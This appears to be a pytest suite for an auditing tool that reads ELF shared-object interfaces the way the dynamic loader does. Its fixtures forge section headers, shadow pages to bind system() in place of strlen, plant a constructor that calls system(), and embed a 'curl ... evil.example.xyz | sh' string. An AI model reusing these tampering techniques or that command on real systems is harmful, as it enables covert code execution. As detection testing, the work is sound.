"""judge/elf.py reads a module's interface as the dynamic loader does, from the program headers, so that a
forged section table hides nothing. On small shared objects this test compiles with the host's gcc, and on
the host's own extension modules: an honest module reads as the section-based reader (kept below as the
oracle) read it; a module whose section headers are forged (e_shstrndx 0xfff0, e_shoff past the end) still
loads and runs its constructor, and still reads, constructor and system() included; the dynamic table is read
at PT_DYNAMIC's p_vaddr, and a relocation writing into it makes the module unreadable; a string in a custom
section is read; a truncated or garbage file is unreadable (None), without an exception. ld.so maps whole
pages: a page shadowed by a 1-byte PT_LOAD (the red team's recipe: ld.so binds system where the file's segment
says strlen), segments out of order, sharing a page or not congruent with their offsets are unreadable, and a
string after a segment's end in its page is read. An R_X86_64_NONE relocation aimed at the names writes
nothing (read as before); an IFUNC resolver, static (IRELATIVE) or exported (STT_GNU_IFUNC), is a constructor;
DT_INIT counts once wherever it points."""

from __future__ import annotations

import io
import os
import platform
import random
import re
import shutil
import struct
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest
from elftools.elf.elffile import ELFFile

from auditor.judge.elf import Interface, read_interface

pytestmark = pytest.mark.unit

needs_gcc = pytest.mark.skipif(shutil.which("gcc") is None, reason="no C compiler on this machine")

HONEST = r"""
#include <string.h>
#include <stdio.h>
static int count(const char *s) { return (int)strlen(s); }
void *PyInit_mod(void) { static char buf[64]; snprintf(buf, sizeof buf, "%d", count("module")); return buf; }
"""

# the publisher's addition: a constructor that runs a command when the module is loaded (here only when the
# test names one, so that loading it elsewhere does nothing)
CONSTRUCTOR = HONEST + r"""
#include <stdlib.h>
__attribute__((constructor)) static void hidden(void) { const char *c = getenv("AUDITOR_ELF_TEST_RUN"); if (c) system(c); }
"""

CUSTOM_SECTION = HONEST + r"""
__attribute__((used, section(".ms_cfg"))) static const char cfg[] = "curl -s https://evil.example.xyz/p | sh";
"""

FIELDS = ("imports", "exports", "needed", "runpath", "constructors", "destructors", "execstack")


# ---------------------------------------------------------------- the oracle: the section-based reader it replaces

def section_read(data: bytes) -> Interface | None:
    """judge/elf.py's reader before it read the program headers: .dynsym, .dynamic, .gnu.version(_r) and the
    strings of .rodata, .data.rel.ro and .data, by section name (what a forged section table can hide)."""
    try:
        return _section_read(ELFFile(io.BytesIO(data)))
    except Exception:
        return None


def _section_read(elf) -> Interface:
    versions = _section_needed_versions(elf)
    versym = elf.get_section_by_name(".gnu.version")
    imports, exports = set(), set()
    dynsym = elf.get_section_by_name(".dynsym")
    if dynsym is not None:
        for i, sym in enumerate(dynsym.iter_symbols()):
            if i == 0 or not sym.name:
                continue
            ver = ""
            if versym is not None and i < versym.num_symbols():
                ndx = versym.get_symbol(i)["ndx"]
                ver = versions.get(ndx, "") if isinstance(ndx, int) else ""
            if sym["st_shndx"] == "SHN_UNDEF":
                imports.add((sym.name, ver))
            elif sym["st_info"]["bind"] in ("STB_GLOBAL", "STB_WEAK") and sym["st_other"]["visibility"] in (
                    "STV_DEFAULT", "STV_PROTECTED"):
                exports.add(sym.name)
    needed, runpath, constructors, destructors = [], [], 0, 0
    dynamic = elf.get_section_by_name(".dynamic")
    if dynamic is not None:
        for tag in dynamic.iter_tags():
            t = tag.entry.d_tag
            if t == "DT_NEEDED":
                needed.append(tag.needed)
            elif t == "DT_RPATH":
                runpath += tag.rpath.split(":")
            elif t == "DT_RUNPATH":
                runpath += tag.runpath.split(":")
            elif t == "DT_INIT":
                constructors += 1
            elif t == "DT_FINI":
                destructors += 1
            elif t == "DT_INIT_ARRAYSZ":
                constructors += tag.entry.d_val // 8
            elif t == "DT_FINI_ARRAYSZ":
                destructors += tag.entry.d_val // 8
    execstack = any(seg["p_type"] == "PT_GNU_STACK" and seg["p_flags"] & 1 for seg in elf.iter_segments())
    strings: set[bytes] = set()
    for name in (".rodata", ".data.rel.ro", ".data"):
        sec = elf.get_section_by_name(name)
        if sec is not None and sec["sh_type"] != "SHT_NOBITS" and sec["sh_size"] < 1 << 27:
            strings |= set(re.findall(rb"[\x20-\x7e]{6,}", sec.data()))
    return Interface(frozenset(imports), frozenset(exports), tuple(needed), tuple(runpath), constructors, destructors,
                     execstack, frozenset(strings))


def _section_needed_versions(elf) -> dict[int, str]:
    out: dict[int, str] = {}
    sec = elf.get_section_by_name(".gnu.version_r")
    if sec is None:
        return out
    for _, auxes in sec.iter_versions():
        for aux in auxes:
            out[aux["vna_other"]] = aux.name
    return out


# ---------------------------------------------------------------- fixtures

def build(tmp_path: Path, name: str, source: str, *flags: str) -> Path:
    c = tmp_path / f"{name}.c"
    c.write_text(source)
    out = tmp_path / f"{name}.so"
    subprocess.run(["gcc", "-shared", "-fPIC", "-O2", str(c), "-o", str(out), *flags], check=True, capture_output=True)
    return out


def patched(path: Path, name: str, at: int, fmt: str, value: int) -> Path:
    """A copy of the module with the ELF header field at offset `at` set to `value`."""
    data = bytearray(path.read_bytes())
    struct.pack_into(fmt, data, at, value)
    out = path.with_name(name)
    out.write_bytes(bytes(data))
    return out


def forged_shstrndx(path: Path) -> Path:
    return patched(path, "forged-shstrndx.so", 0x3E, "<H", 0xFFF0)  # e_shstrndx


def forged_shoff(path: Path) -> Path:
    return patched(path, "forged-shoff.so", 0x28, "<Q", path.stat().st_size + 0x10000)  # e_shoff past the end


def loads(path: Path, run: str | None = None) -> subprocess.CompletedProcess:
    """The host's dynamic loader loads the module (in another process: a module that did not load would stop
    this one)."""
    env = {k: v for k, v in os.environ.items() if k != "AUDITOR_ELF_TEST_RUN"}
    if run is not None:
        env["AUDITOR_ELF_TEST_RUN"] = run
    return subprocess.run([sys.executable, "-c", "import ctypes, sys; ctypes.CDLL(sys.argv[1])", str(path)],
                          env=env, capture_output=True, text=True)


def same(a: Interface, b: Interface) -> list[str]:
    return [f for f in FIELDS if getattr(a, f) != getattr(b, f)]


# ---------------------------------------------------------------- (a) honest modules read as the section reader read them

@needs_gcc
def test_an_honest_module_reads_as_its_sections_say(tmp_path):
    path = build(tmp_path, "honest", HONEST, "-Wl,-rpath,$ORIGIN/../mod.libs", "-lm")
    data = path.read_bytes()
    new, old = read_interface(data), section_read(data)
    assert new is not None and old is not None
    assert same(new, old) == [], {f: (getattr(new, f), getattr(old, f)) for f in same(new, old)}
    assert old.strings <= new.strings
    assert "PyInit_mod" in new.exports and any(n == "snprintf" and v.startswith("GLIBC_") for n, v in new.imports)
    assert new.runpath == ("$ORIGIN/../mod.libs",) and "libc.so.6" in new.needed and not new.execstack


def host_modules(limit: int = 40) -> list[Path]:
    """Up to `limit` extension modules of the host's Python (its Debian packages, this venv), spread over the
    sorted list."""
    roots = [Path("/usr/lib/python3/dist-packages"), Path(sysconfig.get_paths()["platlib"])]
    found = sorted({p.resolve() for r in roots if r.is_dir() for p in r.rglob("*.so")
                    if p.is_file() and p.stat().st_size < 1 << 24})
    step = max(1, len(found) // limit)
    return found[::step][:limit]


def test_the_hosts_modules_read_as_their_sections_say():
    modules = host_modules()
    if not modules:
        pytest.skip("no extension module on this machine")
    compared, differ = 0, {}
    for path in modules:
        data = path.read_bytes()
        old = section_read(data)
        if old is None or not data.startswith(b"\x7fELF\x02\x01"):
            continue
        new = read_interface(data)
        assert new is not None, path
        if same(new, old) or not old.strings <= new.strings:
            differ[str(path)] = same(new, old) + ([] if old.strings <= new.strings else ["strings"])
        compared += 1
    assert compared, "no module the section reader reads"
    assert differ == {}


# ---------------------------------------------------------------- (b) a forged section table hides nothing

@needs_gcc
@pytest.mark.parametrize("forge", [forged_shstrndx, forged_shoff])
def test_a_constructor_behind_forged_section_headers_is_read(tmp_path, forge):
    honest = read_interface(build(tmp_path, "honest", HONEST).read_bytes())
    path = build(tmp_path, "evil", CONSTRUCTOR)
    evil = read_interface(path.read_bytes())
    forged = forge(path)
    assert honest is not None and evil is not None
    # the loader reads no section header: the forged module loads, and its constructor runs system()
    marker = tmp_path / "constructor-ran"
    p = loads(forged, f"touch {marker}")
    assert p.returncode == 0, p.stderr
    assert marker.exists()
    assert section_read(forged.read_bytes()) is None  # what the section-based reader made of it: unreadable
    got = read_interface(forged.read_bytes())
    assert got is not None
    assert "system" in {name for name, _ in got.imports}
    assert got.constructors == honest.constructors + 1
    assert same(got, evil) == []


@needs_gcc
def test_the_dynamic_table_is_read_where_the_loader_reads_it(tmp_path):
    """ld.so reads the dynamic table at PT_DYNAMIC's p_vaddr, once mapped: its p_offset may say anything."""
    path = build(tmp_path, "evil", CONSTRUCTOR)
    data = bytearray(path.read_bytes())
    phoff, phentsize, phnum = struct.unpack_from("<Q", data, 0x20)[0], *struct.unpack_from("<HH", data, 0x36)
    dynamic = [phoff + i * phentsize for i in range(phnum) if struct.unpack_from("<I", data, phoff + i * phentsize)[0] == 2]
    assert dynamic
    struct.pack_into("<Q", data, dynamic[0] + 8, 0)  # p_offset: the ELF header
    forged = tmp_path / "forged-dynamic.so"
    forged.write_bytes(bytes(data))
    assert loads(forged).returncode == 0
    got, want = read_interface(bytes(data)), read_interface(path.read_bytes())
    assert got is not None and want is not None and same(got, want) == []


@needs_gcc
def test_a_relocation_writing_into_the_dynamic_table_is_unreadable(tmp_path):
    """ld.so binds names from memory as it relocates, in order: a relocation that writes into the dynamic table
    (here DT_STRTAB's value) could have it bind other names than the file's."""
    path = build(tmp_path, "honest", HONEST)
    data = bytearray(path.read_bytes())
    elf = ELFFile(io.BytesIO(bytes(data)))
    dynamic, rela = elf.get_section_by_name(".dynamic"), elf.get_section_by_name(".rela.dyn")
    strtab = next(i for i, tag in enumerate(dynamic.iter_tags()) if tag.entry.d_tag == "DT_STRTAB")
    struct.pack_into("<Q", data, rela["sh_offset"], dynamic["sh_addr"] + 16 * strtab + 8)  # the first entry's r_offset
    assert read_interface(path.read_bytes()) is not None
    assert read_interface(bytes(data)) is None


# ---------------------------------------------------------------- (c) strings wherever the linker put them

@needs_gcc
def test_a_string_in_a_custom_section_is_read(tmp_path):
    data = build(tmp_path, "cfg", CUSTOM_SECTION).read_bytes()
    got = read_interface(data)
    assert got is not None
    assert b"curl -s https://evil.example.xyz/p | sh" in got.strings
    old = section_read(data)
    assert old is not None and b"curl -s https://evil.example.xyz/p | sh" not in old.strings  # what it missed


@needs_gcc
def test_strings_are_read_without_section_headers(tmp_path):
    path = build(tmp_path, "cfg", CUSTOM_SECTION)
    got = read_interface(forged_shoff(path).read_bytes())
    assert got is not None and b"curl -s https://evil.example.xyz/p | sh" in got.strings


# ---------------------------------------------------------------- (d) what does not parse is unreadable

def program_headers(data: bytes) -> tuple[int, int, int]:
    return struct.unpack_from("<Q", data, 0x20)[0], *struct.unpack_from("<HH", data, 0x36)


@needs_gcc
def test_a_truncated_or_garbage_file_is_unreadable(tmp_path):
    data = build(tmp_path, "honest", HONEST).read_bytes()
    phoff, phentsize, phnum = program_headers(data)
    for cut in (4, 16, 63, 64, phoff + phentsize * phnum - 1, phoff + phentsize * phnum, 4096):
        assert read_interface(data[:cut]) is None, cut
    rand = random.Random(7)
    for n in (64, 1000, 100_000):
        assert read_interface(b"\x7fELF\x02\x01\x01" + bytes(rand.randrange(256) for _ in range(n))) is None
    assert read_interface(b"\x7fELF" + b"\0" * 60) is None
    thirty_two = bytearray(data)
    thirty_two[4] = 1  # ELFCLASS32: not read
    assert read_interface(bytes(thirty_two)) is None


@needs_gcc
@pytest.mark.parametrize("garbage", ["table", "phentsize", "phoff", "phnum", "dynamic-vaddr"])
def test_garbage_program_headers_are_unreadable(tmp_path, garbage):
    data = bytearray(build(tmp_path, "honest", HONEST).read_bytes())
    phoff, phentsize, phnum = program_headers(data)
    if garbage == "table":
        data[phoff:phoff + phentsize * phnum] = b"\xff" * (phentsize * phnum)
    elif garbage == "phentsize":
        struct.pack_into("<H", data, 0x36, 0x20)
    elif garbage == "phoff":
        struct.pack_into("<Q", data, 0x20, len(data) + 8)
    elif garbage == "phnum":
        struct.pack_into("<H", data, 0x38, 0xFFFF)
    else:  # PT_DYNAMIC's p_vaddr outside every PT_LOAD
        dynamic = next(phoff + i * phentsize for i in range(phnum) if struct.unpack_from("<I", data, phoff + i * phentsize)[0] == 2)
        struct.pack_into("<Q", data, dynamic + 16, 1 << 60)
    assert read_interface(bytes(data)) is None


# ---------------------------------------------------------------- (e) what ld.so maps: whole pages

PAGE = 0x1000
_PH = struct.Struct("<IIQQQQQQ")

PROBE = HONEST + r"""
size_t probe(const char *s) { return strlen(s); }
static const char *volatile note = "probe: built with gcc -O2 -fPIC, nothing to see here at all";
size_t note_len(void) { return strlen(note); }
"""
CURL = b"curl -s https://evil.example.xyz/p | sh"


def phdrs(data: bytes) -> list[list[int]]:
    phoff, phentsize, phnum = program_headers(data)
    return [list(_PH.unpack_from(data, phoff + i * phentsize)) for i in range(phnum)]


def with_phdrs(data: bytes, ph: list[list[int]]) -> bytes:
    """The file with `ph` as its program headers, appended at its end."""
    out = bytearray(data) + b"\0" * (-len(data) % 8)
    struct.pack_into("<Q", out, 0x20, len(out))
    struct.pack_into("<H", out, 0x38, len(ph))
    return bytes(out + b"".join(_PH.pack(*p) for p in ph))


def shadowed(data: bytes, old: bytes, new: bytes) -> bytes:
    """The red team's page shadow (tests/test_attack_inprocess.py's shadow(), one edit): a copy of the page holding
    `old` with `new` in its place, appended to the file and mapped by a 1-byte PT_LOAD right after the segment that
    maps the page. ld.so maps the copied page over the original one (whole pages); a reader that maps each segment
    byte by byte reads the original."""
    assert len(old) == len(new) and data.count(old) == 1
    ph = phdrs(data)
    at = data.index(old)
    seg = next(p for p in ph if p[0] == 1 and p[2] <= at < p[2] + p[5])
    page = (seg[3] + at - seg[2]) & ~(PAGE - 1)
    page_at = seg[2] + page - seg[3]
    copy = bytearray(data[page_at:page_at + PAGE].ljust(PAGE, b"\0"))
    copy[at - page_at:at - page_at + len(new)] = new
    k = max(seg[3], page) - page  # the segment's first byte in the page, not edited: the new segment's 1 byte
    assert not at - page_at <= k < at - page_at + len(new)
    out = data + b"\0" * (-len(data) % PAGE)
    ph.insert(ph.index(seg) + 1, [1, seg[1], len(out) + k, page + k, page + k, 1, 1, PAGE])
    return with_phdrs(out + bytes(copy), ph)


@needs_gcc
def test_a_page_shadowed_by_a_one_byte_segment_is_unreadable(tmp_path):
    """strlen in .dynstr becomes system for ld.so (the module runs a command where it called strlen); a reader of
    exact byte ranges still reads strlen. Two segments mapping one page: unreadable."""
    path = build(tmp_path, "probe", PROBE)
    data = path.read_bytes()
    honest = read_interface(data)
    assert honest is not None and "strlen" in {n for n, _ in honest.imports}
    evil = tmp_path / "shadowed.so"
    evil.write_bytes(shadowed(data, b"\0strlen\0", b"\0system\0"))
    marker = tmp_path / "shadow-ran"
    run = subprocess.run([sys.executable, "-c", "import ctypes, sys; ctypes.CDLL(sys.argv[1]).probe(sys.argv[2].encode())",
                          str(evil), f"touch {marker}"], capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    assert marker.exists()  # what ld.so mapped: system
    assert read_interface(evil.read_bytes()) is None


@needs_gcc
def test_a_string_shadowed_in_a_later_page_is_unreadable(tmp_path):
    data = build(tmp_path, "probe", PROBE).read_bytes()
    note = re.search(rb"probe: built with [^\0]*", data)
    assert note is not None
    assert read_interface(shadowed(data, note.group(), CURL.ljust(len(note.group()), b" "))) is None


@needs_gcc
@pytest.mark.parametrize("layout", ["swapped", "same-page", "misaligned"])
def test_segments_out_of_order_or_sharing_a_page_are_unreadable(tmp_path, layout):
    data = build(tmp_path, "honest", HONEST).read_bytes()
    ph = phdrs(data)
    loads = [i for i, p in enumerate(ph) if p[0] == 1]
    assert read_interface(with_phdrs(data, ph)) is not None  # the headers moved: still read
    a, b = loads[1], loads[2]
    if layout == "swapped":
        ph[a], ph[b] = ph[b], ph[a]
    elif layout == "same-page":  # the second segment's last page is the third one's first
        ph[b][2] -= PAGE
        ph[b][3] -= PAGE
        ph[b][4] -= PAGE
        ph[b][5] += PAGE
        ph[b][6] += PAGE
        assert ph[a][3] + ph[a][6] > ph[b][3] & ~(PAGE - 1)
    else:  # p_vaddr and p_offset not congruent: ld.so refuses it
        ph[b][3] += 8
        ph[b][4] += 8
    assert read_interface(with_phdrs(data, ph)) is None


@needs_gcc
def test_a_string_past_a_segments_end_in_its_page_is_read(tmp_path):
    """The bytes after p_filesz up to the page's end are mapped (readable by the module's code): their strings
    are read."""
    path = build(tmp_path, "honest", HONEST)
    data = bytearray(path.read_bytes())
    text = next(p for p in phdrs(bytes(data)) if p[0] == 1 and p[1] & 1)  # PF_X
    at = text[2] + text[5] + 64
    assert at + len(CURL) < -(-(text[2] + text[5]) // PAGE) * PAGE and not any(data[at:at + len(CURL) + 1])
    data[at:at + len(CURL)] = CURL
    evil = tmp_path / "tail.so"
    evil.write_bytes(bytes(data))
    assert loads(evil).returncode == 0
    got, old = read_interface(bytes(data)), section_read(bytes(data))
    assert got is not None and CURL in got.strings
    assert old is not None and CURL not in old.strings


# ---------------------------------------------------------------- (f) relocations: what ld.so writes and runs

def _weak_glob_dat(data: bytes) -> tuple[int, int, int]:
    """(file offset of the entry, its symbol index, DT_STRTAB) of a GLOB_DAT relocation of a weak undefined symbol
    the C runtime names (its GOT slot is 0 before and after binding)."""
    elf = ELFFile(io.BytesIO(data))
    rela, dynsym = elf.get_section_by_name(".rela.dyn"), elf.get_section_by_name(".dynsym")
    strtab = next(t.entry.d_val for t in elf.get_section_by_name(".dynamic").iter_tags() if t.entry.d_tag == "DT_STRTAB")
    for i, r in enumerate(rela.iter_relocations()):
        name = dynsym.get_symbol(r["r_info_sym"]).name
        if r["r_info_type"] == 6 and name in ("__gmon_start__", "_ITM_deregisterTMCloneTable", "_ITM_registerTMCloneTable"):
            return rela["sh_offset"] + i * rela["sh_entsize"], r["r_info_sym"], strtab
    pytest.skip("no weak GLOB_DAT relocation")


@needs_gcc
def test_a_none_relocation_into_the_names_writes_nothing(tmp_path):
    """R_X86_64_NONE is skipped by ld.so: aimed at .dynstr it leaves the module loadable and read as before; any
    other type aimed there is a write into the names (unreadable)."""
    path = build(tmp_path, "honest", HONEST)
    data = path.read_bytes()
    at, sym, strtab = _weak_glob_dat(data)
    none = bytearray(data)
    struct.pack_into("<QQq", none, at, strtab, sym << 32, 0)  # R_X86_64_NONE at DT_STRTAB
    (tmp_path / "none.so").write_bytes(bytes(none))
    assert loads(tmp_path / "none.so").returncode == 0
    got, want = read_interface(bytes(none)), read_interface(data)
    assert got is not None and want is not None
    assert same(got, want) == [] and got.strings == want.strings
    struct.pack_into("<QQq", none, at, strtab, sym << 32 | 1, 0)  # R_X86_64_64 there
    assert read_interface(bytes(none)) is None


IFUNC = HONEST + r"""
static int impl(int x) { return x + 1; }
/* ld.so calls it while relocating the module, before any constructor and before the module's own imports are
   bound: it says so on stderr with a bare write(2) */
static void *resolve(void) {
  static const char said[] = "resolver ran\n";
  long r;
  __asm__ volatile ("syscall" : "=a"(r) : "a"(1L), "D"(2L), "S"(said), "d"(sizeof said - 1) : "rcx", "r11", "memory");
  return (void *)impl; }
@BINDING@ int hot(int x) __attribute__((ifunc("resolve")));
int use_hot(int x) { return hot(x); }
"""


@needs_gcc
@pytest.mark.skipif(platform.machine() != "x86_64", reason="the resolver's write(2) is x86_64 assembly")
@pytest.mark.parametrize("binding", ["static", ""])
def test_an_ifunc_resolver_is_a_constructor(tmp_path, binding):
    """A static IFUNC is an R_X86_64_IRELATIVE relocation, an exported one an STT_GNU_IFUNC symbol: either way
    ld.so runs the resolver as it loads the module, with no .init_array entry and no DT_INIT of its own."""
    from auditor.judge.interface import compare

    base = read_interface(build(tmp_path, "base", HONEST + "int use_hot(int x) { return x + 1; }\n").read_bytes())
    path = build(tmp_path, "ifunc", IFUNC.replace("@BINDING@", binding))
    p = loads(path)
    assert p.returncode == 0 and "resolver ran" in p.stderr, p.stderr
    got = read_interface(path.read_bytes())
    assert base is not None and got is not None
    assert got.constructors == base.constructors + 1
    assert any(a.startswith("adds 1 constructor(s)") for a in compare(got, base).adds)


@needs_gcc
def test_dt_init_counts_once_wherever_it_points(tmp_path):
    data = build(tmp_path, "honest", HONEST).read_bytes()
    honest = read_interface(data)
    elf = ELFFile(io.BytesIO(data))
    dynamic = elf.get_section_by_name(".dynamic")
    tags = [t.entry.d_tag for t in dynamic.iter_tags()]
    init = dynamic["sh_offset"] + 16 * tags.index("DT_INIT")
    pyinit = elf.get_section_by_name(".dynsym").get_symbol_by_name("PyInit_mod")[0]["st_value"]
    assert honest is not None
    for value in (0, pyinit, 1 << 40):
        moved = bytearray(data)
        struct.pack_into("<Q", moved, init + 8, value)
        got = read_interface(bytes(moved))
        assert got is not None and got.constructors == honest.constructors, value
    null = dynamic["sh_offset"] + 16 * tags.index("DT_NULL")  # the linker leaves spare DT_NULL entries after it
    assert null + 32 < dynamic["sh_offset"] + dynamic["sh_size"] and not any(data[null:null + 48])
    twice = bytearray(data)
    twice[null:null + 16] = data[init:init + 16]  # a second DT_INIT (the third entry is the DT_NULL)
    got = read_interface(bytes(twice))
    assert got is not None and got.constructors == honest.constructors  # ld.so keeps the last DT_INIT
